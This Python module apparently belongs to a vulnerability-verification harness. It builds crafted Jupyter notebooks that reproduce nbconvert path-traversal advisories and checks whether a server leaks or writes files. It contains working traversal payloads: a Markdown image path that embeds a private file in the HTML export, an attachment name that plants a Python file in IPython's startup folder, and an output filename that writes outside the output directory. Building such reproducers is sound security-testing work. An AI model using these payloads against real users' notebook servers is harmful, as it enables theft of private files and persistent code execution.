"""What the nbconvert advisories' attacks do to a single-user server's user (ADV-30..32).

Used by ``runbooks/advisories/nbconvert.md``.  A notebook someone else wrote
lies in the served directory; the user converts it, through the server's
``/nbconvert/html/`` download (ADV-30) or with ``jupyter nbconvert --to
markdown`` in the server's container (ADV-31, ADV-32), and each function
reports what the conversion read or wrote outside the places it may use.
The notebooks are built here (pure functions, unit-tested); the siblings'
environment classes are here too, next to the only page that starts them.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
import shlex
from typing import Any

from jsv.claims import Observation
from jsv.environments import JupyterServer, NetClient

ROOT_DIR = "/srv/work"
"""The server's root; the shared notebooks lie in it."""
PRIVATE_FILE = "/home/alice/private/notes.txt"
"""A file of the converting user's, outside the root: what GHSA-7jqv-fw35-gmx9's notebook copies."""
PRIVATE_TEXT = "alice's private notes: not for the notebook's author (jsv marker)\n"
EMBED_NOTEBOOK = "shared-figures.ipynb"
ATTACHMENT_NOTEBOOK = "shared-attachment.ipynb"
OUTPUT_NOTEBOOK = "shared-output.ipynb"
OUTPUT_DIR = "/home/alice/converted"
"""Where the user asks ``jupyter nbconvert`` to write (``--output-dir``)."""
PLANTED_STARTUP = "/home/alice/.ipython/profile_default/startup/00-planted.py"
"""GHSA-4c99-qj7h-p3vg's target: IPython runs every file here at the start of each of alice's kernels."""
PLANTED_CODE = "# written by shared-attachment.ipynb during a conversion (jsv marker)\nJSV_PLANTED = True\n"
PLANTED_IMAGE = "/home/alice/planted-output.svg"
"""The 7.17.2 fix's target: an output's ``filename`` names it; nbconvert adds the image's extension."""
PLANTED_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><!-- jsv marker: written outside --></svg>'


def _notebook(cells: list[dict[str, Any]]) -> str:
    numbered = [cell | {"id": f"c{index}"} for index, cell in enumerate(cells, 1)]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": numbered}
    return json.dumps(notebook, indent=1) + "\n"


def relative_to(target: str, start: str) -> str:
    """``target`` written as a path relative to the directory ``start`` (both absolute, no symlinks)."""
    target_parts = [part for part in target.split("/") if part]
    start_parts = [part for part in start.split("/") if part]
    common = 0
    while common < min(len(target_parts), len(start_parts)) and target_parts[common] == start_parts[common]:
        common += 1
    return "/".join([".."] * (len(start_parts) - common) + target_parts[common:])


def embed_notebook() -> str:
    """GHSA-7jqv-fw35-gmx9: a Markdown image whose path climbs out of the notebook's directory."""
    source = f"Figure 1:\n\n![figure 1]({relative_to(PRIVATE_FILE, ROOT_DIR)})\n"
    return _notebook([{"cell_type": "markdown", "metadata": {}, "source": source}])


def files_dir_of(notebook: str) -> str:
    """The support-files folder nbconvert writes a notebook's extracted files to (``<name>_files``)."""
    return notebook.removesuffix(".ipynb") + "_files"


def attachment_notebook() -> str:
    """GHSA-4c99-qj7h-p3vg: a Markdown cell whose attachment's name climbs into IPython's startup folder.

    The name is relative to ``<output dir>/<notebook>_files``, where nbconvert puts attachments.
    """
    name = relative_to(PLANTED_STARTUP, f"{OUTPUT_DIR}/{files_dir_of(ATTACHMENT_NOTEBOOK)}")
    data = base64.b64encode(PLANTED_CODE.encode()).decode()
    cell = {
        "cell_type": "markdown",
        "metadata": {},
        "source": f"![diagram](attachment:{name})\n",
        "attachments": {name: {"image/png": data}},
    }
    return _notebook([cell])


def output_notebook() -> str:
    """The 7.17.2 fix: a saved SVG output whose ``metadata.filename`` climbs out of the output directory."""
    name = relative_to(PLANTED_IMAGE, f"{OUTPUT_DIR}/{files_dir_of(OUTPUT_NOTEBOOK)}")
    output = {
        "output_type": "display_data",
        "data": {"image/svg+xml": PLANTED_SVG, "text/plain": ["<figure>"]},
        "metadata": {"filename": name},
    }
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "plot()"}
    return _notebook([cell | {"outputs": [output]}])


def server_files(machine: JupyterServer) -> JupyterServer:
    """The shared notebooks in the root, alice's private file outside it, and embedded images turned on."""
    return (
        machine.with_config(f"c.ServerApp.root_dir = '{ROOT_DIR}'", "c.HTMLExporter.embed_images = True")
        .with_args("--ip=0.0.0.0")
        .with_file(f"{ROOT_DIR}/{EMBED_NOTEBOOK}", embed_notebook(), 0o644)
        .with_file(f"{ROOT_DIR}/{ATTACHMENT_NOTEBOOK}", attachment_notebook(), 0o644)
        .with_file(f"{ROOT_DIR}/{OUTPUT_NOTEBOOK}", output_notebook(), 0o644)
        .with_file(PRIVATE_FILE, PRIVATE_TEXT, 0o644)
    )


_DATA_URI = re.compile(r"""<img[^>]*\bsrc=["']data:([^;"']*);base64,([A-Za-z0-9+/=]+)["']""")


def embedded_texts(html: str) -> list[str]:
    """The decoded contents of every ``<img src="data:...;base64,...">`` of ``html`` (bad base64 skipped)."""
    found = []
    for match in _DATA_URI.finditer(html):
        try:
            found.append(base64.b64decode(match.group(2), validate=True).decode("utf-8", "replace"))
        except (binascii.Error, ValueError):
            continue
    return found


def image_sources(html: str) -> list[str]:
    """The ``src`` of every ``<img>`` of ``html`` that is not a data URI (what was left as a link)."""
    sources = re.findall(r"""<img[^>]*\bsrc=["']([^"']*)["']""", html)
    return [src for src in sources if not src.startswith("data:")]


def embedded_private_file(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-30: ``GET /nbconvert/html/<shared notebook>``; is alice's private file inside the page?"""
    reply = client.http(
        target.url(f"/nbconvert/html/{EMBED_NOTEBOOK}"), "-H", f"Authorization: token {target.token}"
    )
    answers = {
        "status": reply.status,
        "private file embedded": PRIVATE_TEXT in embedded_texts(reply.body),
        "image left as a link": relative_to(PRIVATE_FILE, ROOT_DIR) in image_sources(reply.body),
    }
    tags = [tag[:160] + ("..." if len(tag) > 160 else "") for tag in re.findall(r"<img[^>]*>", reply.body)]
    return Observation(answers, "\n".join([reply.transcript, "...", "the page's <img> tags:", *tags]))


def _convert(target: JupyterServer, notebook: str, planted: str, kept_as: str) -> Observation:
    """``jupyter nbconvert --to markdown`` as alice; was ``planted`` written, and the file kept inside?

    Run as ``python3 -m nbconvert``, the same program: Debian's ``python3-nbconvert`` (the Debian column's
    image) installs the module without the ``jupyter-nbconvert`` command.
    """
    inside = f"{OUTPUT_DIR}/{files_dir_of(notebook)}/{kept_as}"
    command = (
        f"rm -rf {OUTPUT_DIR} && python3 -m nbconvert --to markdown --output-dir {OUTPUT_DIR} "
        f"{shlex.quote(f'{ROOT_DIR}/{notebook}')}"
    )
    ran = target.run(["sh", "-c", command], user="alice")
    outside = target.run(["cat", planted], user="alice")
    kept = target.run(["ls", "-l", inside], user="alice")
    answers = {
        "conversion exit code": ran.exit_code,
        "written outside the output directory": outside.exit_code == 0 and "jsv marker" in outside.stdout,
        "kept inside the output directory": kept.exit_code == 0,
    }
    return Observation(answers, "\n\n".join(r.transcript for r in (ran, outside, kept)))


def attachment_write(target: JupyterServer) -> Observation:
    """ADV-31: convert the notebook whose attachment is named ``../../.ipython/.../00-planted.py``."""
    return _convert(target, ATTACHMENT_NOTEBOOK, PLANTED_STARTUP, PLANTED_STARTUP.rsplit("/", 1)[1])


def output_write(target: JupyterServer) -> Observation:
    """ADV-32: convert the notebook whose saved SVG output names its file ``../../planted-output.svg``."""
    return _convert(target, OUTPUT_NOTEBOOK, PLANTED_IMAGE, PLANTED_IMAGE.rsplit("/", 1)[1])
